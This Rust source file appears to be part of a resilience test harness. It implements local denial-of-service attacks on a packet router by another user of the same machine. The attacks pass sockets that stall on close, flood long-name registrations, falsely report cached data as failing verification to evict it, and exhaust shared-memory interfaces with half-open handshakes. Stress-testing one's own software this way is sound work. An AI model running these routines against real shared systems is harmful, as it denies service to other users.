//! Attacks by another user of the machine.

use std::collections::BTreeMap;
use std::io::{self, IoSlice, Read, Write};
use std::mem::MaybeUninit;
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::os::fd::AsFd;
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::time::Duration;

use namely_memif::{Handshake, Interface, Options, Progress};
use namely_security::{Signer, sha256, sign_interest};
use namely_wire::mgmt::{Command, ControlParameters, Dataset, Scope};
use namely_wire::tlv::read_tlv;
use namely_wire::types::IMPLICIT_DIGEST_COMPONENT;
use namely_wire::{Component, DataView, InterestBuilder, LpView, Name};
use rustix::event::{PollFd, PollFlags, Timespec};
use rustix::net::{
    AddressFamily, SendAncillaryBuffer, SendAncillaryMessage, SendFlags, SocketAddrUnix, SocketFlags,
    SocketType,
};

use super::pace::{Done, End, name, nonce};
use crate::attacks::Place;

/// How long a socket's close(2) waits for a peer that does not read.
const LINGER: Duration = Duration::from_secs(5);

/// Messages with descriptors.
const MESSAGES: u64 = 20;

/// Registrations.
const REGISTRATIONS: u64 = 100_000;

/// Octets of a registered name, about.
const NAME_OCTETS: usize = 4000;

/// Reports.
const REPORTS: u64 = 100_000;

/// Shared-memory interfaces.
const INTERFACES: u64 = 64;

/// Slots of an interface in each direction (log2): large ones until they are refused, then smaller
/// ones into what is left.
const RINGS_LOG2: [u8; 4] = [11, 9, 7, 5];

/// Octets of a slot.
const SLOT_OCTETS: u32 = 9472;

/// Sockets whose close(2) waits, sent to the router, which has to close them.
pub(super) fn descriptors(place: &Place, end: &End) -> io::Result<Done> {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
    let (mut kept, mut refused) = (Vec::new(), 0u64);
    let sent = end.spread(MESSAGES, 0.75, |_| {
        let connection = UnixStream::connect(&place.unix)?;
        let slow = slow_to_close(&listener, &mut kept)?;
        let mut space = [MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
        let mut ancillary = SendAncillaryBuffer::new(&mut space);
        let descriptors = [slow.as_fd()];
        ancillary.push(SendAncillaryMessage::ScmRights(&descriptors));
        // The first octets of a packet, so that it is read and the connection stays.
        let octets = [IoSlice::new(&[0x05, 0x20])];
        let result = rustix::net::sendmsg(&connection, &octets, &mut ancillary, SendFlags::NOSIGNAL);
        kept.push(Kept::Unix(connection));
        if result.is_err() {
            // Where the router's sockets take no descriptors, the kernel refuses them here; closing
            // this end's own would wait. Its peer, which was kept before it, goes first.
            refused += 1;
            kept.push(Kept::Tcp(slow));
        }
        Ok(result.map(|_| ())?)
    });
    end.wait();
    Ok(BTreeMap::from([("descriptors", sent), ("refused", refused)]))
}

/// What stays open until the attack ends.
#[expect(dead_code, reason = "it is held, not read")]
enum Kept {
    Unix(UnixStream),
    Tcp(TcpStream),
}

/// A socket with octets that its peer, which stays, does not read.
fn slow_to_close(listener: &TcpListener, kept: &mut Vec<Kept>) -> io::Result<TcpStream> {
    let mut near = TcpStream::connect(listener.local_addr()?)?;
    let (far, _) = listener.accept()?;
    kept.push(Kept::Tcp(far));
    near.set_nonblocking(true)?;
    let chunk = [0; 65_536];
    while near.write(&chunk).is_ok() {}
    // A socket that does not wait is closed without waiting.
    near.set_nonblocking(false)?;
    socket2::SockRef::from(&near).set_linger(Some(LINGER))?;
    Ok(near)
}

/// Registrations of long names and requests for the largest dataset, without waiting for answers.
pub(super) fn commands(place: &Place, end: &End) -> io::Result<Done> {
    let signer = Signer::digest_sha256();
    let mut connection = UnixStream::connect(&place.unix)?;
    connection.set_nonblocking(true)?;
    let long = "x".repeat(NAME_OCTETS);
    let mut time_ms = namely_host::clock::unix_ms();
    let mut answers = vec![0; 1 << 20];
    let mut taken = 0u64;
    let sent = end.spread(REGISTRATIONS, 0.95, |n| {
        let prefix = name(&format!("/flood/{n}/{long}"))?;
        let parameters = ControlParameters { name: Some(prefix), ..ControlParameters::default() };
        let name = Command::RibRegister.name(Scope::Localhost, &parameters);
        let builder = InterestBuilder::new(name).must_be_fresh().nonce(nonce(n));
        time_ms += 1;
        let command = sign_interest(&builder, b"", &signer, time_ms).map_err(io::Error::other)?;
        send(&mut connection, &command, &mut answers, &mut taken, end)?;
        if n % 16 == 0 {
            let list = Dataset::RibList.prefix(Scope::Localhost);
            let list = InterestBuilder::new(list).can_be_prefix().must_be_fresh().nonce(nonce(!n));
            send(&mut connection, &list.build(), &mut answers, &mut taken, end)?;
        }
        Ok(())
    });
    Ok(BTreeMap::from([("registrations", sent), ("answer_octets", taken)]))
}

/// Fetches what is cached, and reports each packet as one that verification refuses: it leaves the
/// content store, and the next who wants it has to wait for the producer.
pub(super) fn reports(place: &Place, end: &End) -> io::Result<Done> {
    let mut connection = UnixStream::connect(&place.unix)?;
    connection.set_read_timeout(Some(Duration::from_millis(200)))?;
    let (mut buffer, mut reported) = (Vec::new(), 0u64);
    let fetched = end.spread(REPORTS, 0.95, |n| {
        let segment = name(&place.object)?.join_segment(n % place.segments.max(1));
        connection.write_all(&InterestBuilder::new(segment.clone()).nonce(nonce(n)).build())?;
        // Answers to reports come in between.
        let Some(data) = data_named(&mut connection, &mut buffer, &segment, end) else { return Ok(()) };
        let digest = sha256(&data);
        let full = segment.join(Component { typ: IMPLICIT_DIGEST_COMPONENT, value: &digest });
        let parameters = ControlParameters { name: Some(full), ..ControlParameters::default() };
        let report = Command::CsReport.name(Scope::Localhost, &parameters);
        connection.write_all(&InterestBuilder::new(report).must_be_fresh().nonce(nonce(!n)).build())?;
        reported += 1;
        Ok(())
    });
    Ok(BTreeMap::from([("fetched", fetched), ("reports", reported)]))
}

/// The next Data of this name, if one comes in time.
fn data_named(connection: &mut UnixStream, buffer: &mut Vec<u8>, name: &Name, end: &End) -> Option<Vec<u8>> {
    let mut chunk = [0; 65_536];
    while end.is_ahead() {
        while let Some(length) = read_tlv(buffer).ok().map(|tlv| tlv.raw.len()) {
            let packet: Vec<u8> = buffer.drain(..length).collect();
            let fragment = LpView::parse(&packet).ok().and_then(|view| view.fragment.map(<[u8]>::to_vec));
            let data =
                fragment.filter(|data| DataView::parse(data).is_ok_and(|view| view.name == name.as_name()));
            if data.is_some() {
                return data;
            }
        }
        match connection.read(&mut chunk) {
            Ok(octets) if octets > 0 => buffer.extend_from_slice(&chunk[..octets]),
            _ => return None,
        }
    }
    None
}

/// Sends all of `octets`, and meanwhile reads what comes.
fn send(
    connection: &mut UnixStream,
    octets: &[u8],
    answers: &mut [u8],
    taken: &mut u64,
    end: &End,
) -> io::Result<()> {
    let mut rest = octets;
    while !rest.is_empty() && end.is_ahead() {
        match connection.write(rest) {
            Ok(n) => rest = &rest[n..],
            Err(e) if e.kind() == io::ErrorKind::WouldBlock => std::thread::sleep(Duration::from_micros(200)),
            Err(e) => return Err(e),
        }
        match connection.read(answers) {
            Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
            Ok(n) => *taken += n as u64,
            Err(_) => {}
        }
    }
    if rest.is_empty() { Ok(()) } else { Err(io::ErrorKind::TimedOut.into()) }
}

/// Interfaces of as much memory as is admitted, until no more are, and handshakes that stop after
/// the first message.
pub(super) fn memory(place: &Place, end: &End) -> io::Result<Done> {
    let Some(path) = &place.memif else { return Ok(BTreeMap::new()) };
    let (mut interfaces, mut halves) = (Vec::new(), Vec::new());
    let (mut refused, mut begun, mut size) = (0u64, 0u64, 0);
    while end.is_ahead() && begun < INTERFACES * 20 {
        begun += 1;
        halves.extend(socket(path));
        match interface(path, RINGS_LOG2[size]) {
            Ok(interface) => interfaces.push(interface),
            Err(_) => {
                refused += 1;
                size = (size + 1).min(RINGS_LOG2.len() - 1);
            }
        }
        end.sleep(Duration::from_millis(20));
    }
    end.wait();
    Ok(BTreeMap::from([
        ("interfaces", interfaces.len() as u64),
        ("refused", refused),
        ("half_open", halves.len() as u64),
    ]))
}

fn socket(path: &Path) -> io::Result<std::os::fd::OwnedFd> {
    let flags = SocketFlags::CLOEXEC | SocketFlags::NONBLOCK;
    let socket = rustix::net::socket_with(AddressFamily::UNIX, SocketType::SEQPACKET, flags, None)?;
    rustix::net::connect(&socket, &SocketAddrUnix::new(path)?)?;
    Ok(socket)
}

fn interface(path: &Path, ring_size_log2: u8) -> io::Result<Interface> {
    let options = Options { ring_size_log2, buffer_octets: SLOT_OCTETS, ..Options::default() };
    let mut handshake = Handshake::client(socket(path)?, options);
    loop {
        handshake = match handshake.proceed().map_err(io::Error::other)? {
            Progress::Connected(interface) => return Ok(*interface),
            Progress::Waiting(handshake) => handshake,
        };
        let patience = Timespec { tv_sec: 1, tv_nsec: 0 };
        let mut fds = [PollFd::new(&handshake, PollFlags::IN)];
        if rustix::event::poll(&mut fds, Some(&patience))? == 0 {
            return Err(io::ErrorKind::TimedOut.into());
        }
    }
}
